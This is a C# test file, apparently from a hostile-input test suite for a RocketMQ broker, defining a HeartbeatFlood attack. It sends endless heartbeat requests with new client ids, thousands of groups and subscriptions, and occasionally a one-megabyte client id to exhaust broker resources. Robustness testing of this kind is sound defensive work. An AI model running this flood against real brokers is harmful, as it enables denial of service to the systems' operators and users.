using RocketMQ.Protocol.Bodies;
using RocketMQ.Protocol.Codes;
using RocketMQ.Protocol.Commands;
using RocketMQ.Protocol.Json;

namespace RocketMQ.Hostile.Tests.Attacks;

/// <summary>Heartbeats of ever new clients, groups and subscriptions: a few groups each, or thousands, or an id of a megabyte.</summary>
internal sealed class HeartbeatFlood : IAttack
{
    public Task RunAsync(Target target, CancellationToken cancellationToken) =>
        Target.FloodAsync(target.Broker, i => RemotingCommand.Request(RequestCode.HeartBeat, body: RemotingJson.Serialize(Heartbeat(i))), cancellationToken);

    private static HeartbeatData Heartbeat(int number)
    {
        var groups = number % 50 == 0 ? 5_000 : 5;
        return new HeartbeatData
        {
            ClientId = number % 50 == 1 ? new string('c', 1_000_000) : $"hostile-{number}",
            ProducerDataSet = [.. Enumerable.Range(0, groups).Select(i => new ProducerData { GroupName = $"hp-{number}-{i}" })],
            ConsumerDataSet = [.. Enumerable.Range(0, groups).Select(i => new ConsumerData
            {
                GroupName = $"hc-{number % 500}-{i}",
                SubscriptionDataSet = [new SubscriptionData { Topic = $"ht-{number}-{i}", SubString = "*", SubVersion = number }],
            })],
        };
    }
}
